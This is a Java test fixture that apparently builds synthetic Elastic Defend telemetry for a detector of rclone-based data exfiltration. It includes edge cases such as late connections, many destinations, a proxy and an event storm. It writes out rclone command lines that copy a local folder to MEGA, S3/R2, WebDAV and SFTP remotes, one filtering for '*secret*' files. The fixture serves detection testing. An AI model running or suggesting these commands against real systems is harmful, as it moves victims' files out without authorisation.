package exfilwatch.job;

import java.time.Instant;
import java.util.ArrayList;
import java.util.List;

/** Telemetry of incidents with what the sample does not have, as Elastic Defend writes it. */
final class RareIncidents {

  private static final long DAY = Instant.parse("2026-03-05T08:00:00Z").toEpochMilli();
  private static final String R2 = "0123456789abcdef0123456789abcdef.r2.cloudflarestorage.com";

  private final List<String> lines = new ArrayList<>();
  private int processes;

  /** One record a line; goes with {@link #CONFIGURATION}. */
  static List<String> lines() {
    return new RareIncidents().all();
  }

  /** What the configuration has to say for all of them to come about. */
  static final String CONFIGURATION =
      """
      network: {proxies: ['192.0.2.80:3128']}
      suppression: {storm: 20}
      """;

  private List<String> all() {
    run("rclone.exe rc sync/copy srcFs=C:\\\\d dstFs=mega:x");
    run("rclone.exe copy C:\\\\d mega:x --no-such-flag");
    run("cmd.exe /c rclone.exe copy C:\\\\d mega:x");
    run("rclone.exe copy :s3,provider=AWS,region=eu-west-1:drop C:\\\\d");
    run("rclone.exe copy C:\\\\d :crypt,remote='mega:x',password=EXAMPLE:y --include *secret*");
    run(
        "rclone.exe copy C:\\\\d :s3,provider=Cloudflare,access_key_id=EXAMPLE1,endpoint="
            + R2
            + ":b");
    run("rclone.exe copy C:\\\\d :webdav,url=https://dav.example.net/x,user=m:y --min-age 1d");
    run("rclone.exe copy C:\\\\d :sftp,host=192.0.2.7,user=drop:x --files-from C:\\\\l.txt");
    lateConnection();
    manyDestinations();
    throughAProxy();
    withoutAStart();
    storm();
    return lines;
  }

  private void run(String commandLine) {
    String host = "rare-" + processes;
    start(host, DAY, commandLine);
    connect(host, DAY + 5_000, "203.0.113.9", 443);
    end(host, DAY + 60_000);
  }

  private void lateConnection() {
    start("late", DAY, "rclone.exe mount mega: X:");
    connect("late", DAY + 15 * 60_000, "203.0.113.9", 443);
    end("late", DAY + 16 * 60_000);
  }

  private void manyDestinations() {
    start("many", DAY, "rclone.exe copy C:\\\\d mega:x");
    for (int i = 1; i <= 120; i++) {
      connect("many", DAY + i * 1000L, "203.0.113." + i, 443);
    }
    end("many", DAY + 200_000);
  }

  private void throughAProxy() {
    start("proxied", DAY, "rclone.exe copy C:\\\\d mega:x");
    connect("proxied", DAY + 1000, "192.0.2.80", 3128);
    end("proxied", DAY + 60_000);
  }

  private void withoutAStart() {
    processes++;
    connect("unseen", DAY, "203.0.113.9", 443);
  }

  private void storm() {
    for (int i = 0; i < 25; i++) {
      start("storm", DAY + 3_600_000 + i * 1000L, "rclone.exe copy C:\\\\d" + i + " mega:x" + i);
    }
  }

  private void start(String host, long time, String commandLine) {
    processes++;
    String name = commandLine.substring(0, commandLine.indexOf(' '));
    lines.add(
        """
        {"@timestamp":"%s","event":{"module":"endpoint","action":"start","category":["process"],"type":["start"]},\
        "host":{"name":"%s","os":{"type":"windows"}},"process":{"entity_id":"e%d","pid":%d,"name":"%s",\
        "parent":{"entity_id":"p","pid":1,"start":"2026-03-05T07:00:00Z"},"executable":"C:\\\\t\\\\%s","command_line":"%s"}}\
        """
            .formatted(
                Instant.ofEpochMilli(time), host, processes, processes, name, name, commandLine));
  }

  private void connect(String host, long time, String ip, int port) {
    lines.add(
        """
        {"@timestamp":"%s","event":{"module":"endpoint","action":"connection_attempted","category":["network"],\
        "type":["start"]},"host":{"name":"%s","os":{"type":"windows"}},"process":{"entity_id":"e%d","pid":%d,\
        "name":"rclone.exe"},"destination":{"ip":"%s","port":%d},\
        "network":{"direction":"egress","transport":"tcp"}}\
        """
            .formatted(Instant.ofEpochMilli(time), host, processes, processes, ip, port));
  }

  private void end(String host, long time) {
    lines.add(
        """
        {"@timestamp":"%s","event":{"module":"endpoint","action":"end","category":["process"],"type":["end"]},\
        "host":{"name":"%s","os":{"type":"windows"}},"process":{"entity_id":"e%d","pid":%d,"name":"rclone.exe"}}\
        """
            .formatted(Instant.ofEpochMilli(time), host, processes, processes));
  }
}
